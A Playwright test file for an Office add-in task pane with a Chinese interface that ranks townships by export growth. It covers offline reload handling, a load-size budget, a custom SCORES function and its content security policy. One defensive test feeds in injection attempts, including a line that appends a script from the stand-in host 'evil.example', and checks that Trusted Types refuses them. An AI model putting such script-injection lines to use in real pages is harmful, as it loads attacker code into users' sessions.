import { readFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import type { Browser, Page } from "playwright-core";
import { cellsOf } from "../reading/own-method/sheet";
import { oneIndicatorMethod } from "../reading/own-method/one-indicator-method";
import { hostScript, openAddin } from "./addin-host/open-addin";
import { launchBrowser } from "./launch";
import { builtFolder } from "./pages";
import { serveFolder, type ServedFolder } from "./serve";

let browser: Browser;
let served: ServedFolder;
let page: Page;
let troubles: readonly string[];

beforeAll(async () => {
  [browser, served] = await Promise.all([launchBrowser(), serveFolder(builtFolder("addin"))]);
  ({ page, troubles } = await openAddin(browser, served.url, await hostScript()));
});

afterAll(async () => {
  await browser.close();
  await served.close();
});

test("the pane as built starts under its security policy and ranks", async () => {
  await page.getByRole("button", { name: "一键排名" }).click();
  await page.getByRole("table", { name: "排名 1-6月" }).waitFor();
  expect(troubles).toEqual([]);
});

test("where the network fails, what is fetched late says so and is fetched again on request", async () => {
  const { page: cut, troubles: seen } = await openAddin(browser, served.url, await hostScript());
  const notLoaded = cut.getByText("这一部分没有载入，工作簿没有改动", { exact: false });
  const rank = cut.getByRole("button", { name: "一键排名" });
  await rank.and(cut.locator(":enabled")).waitFor();
  await cut.context().setOffline(true);
  await cut.getByRole("button", { name: "＋新增" }).click();
  await cut.getByRole("dialog").filter({ has: notLoaded }).waitFor();
  await cut.context().setOffline(false);
  await cut.getByRole("button", { name: "重新载入" }).click();
  await cut.getByRole("textbox", { name: "期间" }).waitFor();
  await cut.getByRole("button", { name: "取消" }).click();
  await cut.context().setOffline(true);
  await rank.click();
  await notLoaded.waitFor();
  await cut.context().setOffline(false);
  await rank.click();
  await cut.getByRole("table", { name: "排名 1-6月" }).waitFor();
  await cut.context().close();
  expect(seen.filter((text) => !/ERR_INTERNET_DISCONNECTED/.test(text))).toEqual([]);
});

/** In the page, at the moment that the button is there: asked from outside, a slow machine has loaded more. */
const LOADED_BY_THEN = `
new MutationObserver((_, observer) => {
  const buttons = [...document.querySelectorAll("button")];
  if (!buttons.some(({ textContent }) => textContent === "一键排名")) return;
  observer.disconnect();
  globalThis.loadedByThen = performance.getEntriesByType("resource").map(({ name }) => name);
}).observe(document, { childList: true, subtree: true });`;

test("until 一键排名 can be clicked the page has loaded at most 250 KB of its own scripts", async () => {
  const fresh = await openAddin(browser, served.url, (await hostScript()) + LOADED_BY_THEN);
  await fresh.page.getByRole("button", { name: "一键排名" }).waitFor();
  const loaded = await fresh.page.evaluate<readonly string[]>("loadedByThen");
  await fresh.page.context().close();
  const own = loaded
    .filter((name) => name.startsWith(served.url))
    .map((name) => new URL(name).pathname.slice(1))
    .filter((name) => name.endsWith(".js"))
    .filter((name) => !name.startsWith("office-js/"));
  expect(own).toContainEqual(expect.stringMatching(/^taskpane\./));
  expect(own).toContain("functions.js");
  const sizes = own.map((name) => gzipSync(readFileSync(join(builtFolder("addin"), name))).length);
  expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThanOrEqual(250 * 1024);
});

test.each([
  [
    "a script of another server",
    "document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
  ],
  ["text as HTML", "document.body.innerHTML = '<b>甲</b>'"],
  ["text as script", "document.createElement('script').text = '1'"],
])("%s is refused", async (_what, deed) => {
  await expect(page.evaluate(deed)).rejects.toThrow(
    /TrustedScript|TrustedHTML|Trusted Types|default/i,
  );
});

const SCORES = [
  ["数据 1-6月", null, null],
  ["乡镇", "自营出口额", "去年同期自营出口额"],
  ["甲镇", 1200, 1000],
  ["乙镇", 900, 1000],
];

test("CX.SCORES by a county's own method: what it needs comes with the call", async () => {
  const method = cellsOf(oneIndicatorMethod).map((row) => row.map((cell) => cell || null));
  const loaded = (): Promise<boolean> =>
    page.evaluate(
      "performance.getEntriesByType('resource').some(({ name }) => /own-months/.test(name))",
    );
  const before = [...troubles];
  expect(await loaded()).toBe(false);
  const call = `CustomFunctions._association.mappings.SCORES(${[
    SCORES,
    null,
    "1-6月",
    null,
    null,
    method,
  ]
    .map((one) => JSON.stringify(one))
    .join(",")})`;
  const table = await page.evaluate<unknown[][]>(call);
  expect(table).toEqual([
    ["乡镇", "1 出口", "总分", "名次"],
    ["甲镇", 100, 100, 1],
    ["乙镇", 75, 75, 2],
  ]);
  expect(await loaded()).toBe(true);
  expect(troubles).toEqual(before);
});
